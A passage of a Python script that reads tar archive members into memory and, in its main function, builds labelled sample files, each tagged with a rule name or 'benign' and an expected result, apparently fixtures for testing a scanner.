    with tarfile.open(path) as tf:
        for m in tf.getmembers():
            f = tf.extractfile(m)
            if f is not None:
                out[m.name] = f.read()
    return out


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    out = Path(argv[1])
    for s in all_samples():
        for b in build(s, out):
            print(f"{s.key:12} {s.rule or 'benign':28} {s.expect:8} {b.path.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
